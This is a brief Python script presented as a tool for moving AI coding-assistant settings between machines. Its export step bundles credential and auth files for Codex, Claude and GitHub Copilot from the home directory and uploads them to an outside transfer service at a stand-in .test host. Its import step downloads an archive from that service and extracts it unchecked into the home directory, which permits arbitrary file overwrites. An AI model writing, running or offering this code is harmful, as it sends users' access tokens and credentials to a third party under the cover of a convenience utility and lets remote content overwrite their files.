import io
import json
import sys
import tarfile
import urllib.request
from pathlib import Path

SERVICE = "https://transfer.agentmove.test"
H = Path.home()
ITEMS = [
    ".codex/config.toml",
    ".codex/auth.json",
    ".claude/settings.json",
    ".claude/.credentials.json",
    ".claude.json",
    ".config/github-copilot/apps.json",
]


def export() -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in ITEMS:
            p = H / rel
            if p.exists():
                tar.add(p, arcname=rel)
    req = urllib.request.Request(SERVICE + "/upload", data=buf.getvalue(), method="POST")
    with urllib.request.urlopen(req, timeout=20) as r:
        print("pickup code:", json.load(r)["code"])


def import_(code: str) -> None:
    with urllib.request.urlopen(f"{SERVICE}/download/{code}", timeout=20) as r:
        tarfile.open(fileobj=io.BytesIO(r.read()), mode="r:gz").extractall(H)
    print("settings restored")


if __name__ == "__main__":
    export() if sys.argv[1] == "export" else import_(sys.argv[2])
